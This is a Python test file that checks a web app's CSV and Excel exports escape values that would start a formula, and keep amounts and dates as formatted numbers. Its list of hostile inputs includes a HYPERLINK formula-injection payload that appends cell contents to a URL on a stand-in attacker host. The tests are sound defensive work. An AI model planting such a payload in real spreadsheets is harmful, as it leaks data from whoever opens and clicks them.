"""Exports never hand Excel a formula a sender wrote: names from DTE and the register stay text."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from webapp.spreadsheets import csv_response, inert, xlsx_response

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', "+56 9 1234", "-2+3", "@SUM(A1)", "\t=1"]


def test_a_text_that_starts_a_formula_is_made_text_and_others_are_left_alone():
    assert [inert(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [inert(v) for v in ("Comercial Sur", 1234, -5, None)] == ["Comercial Sur", 1234, -5, None]


def test_the_csv_carries_no_formula_and_keeps_numbers_as_numbers():
    response = csv_response(["Razón social", "Total"], [[name, -1500] for name in HOSTILE], "x.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["Razón social", "Total"]
    assert all(row[0].startswith("'") for row in rows[1:]), rows
    assert {row[1] for row in rows[1:]} == {"-1500"}


def test_the_workbook_holds_the_names_as_text_and_the_amounts_as_formatted_numbers():
    rows = [[name, -1500, date(2024, 5, 3)] for name in HOSTILE]
    response = xlsx_response(
        "Hoja", ["Razón social", "Total", "Fecha"], rows, "x.xlsx", formats={1: "#,##0", 2: "DD-MM-YYYY"}
    )
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    names = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(HOSTILE))]
    assert [c.data_type for c in names] == ["s"] * len(HOSTILE)
    assert [c.value for c in names] == HOSTILE
    assert sheet.cell(row=2, column=2).value == -1500 and sheet.cell(row=2, column=2).number_format == "#,##0"
    assert sheet.cell(row=2, column=3).number_format == "DD-MM-YYYY"
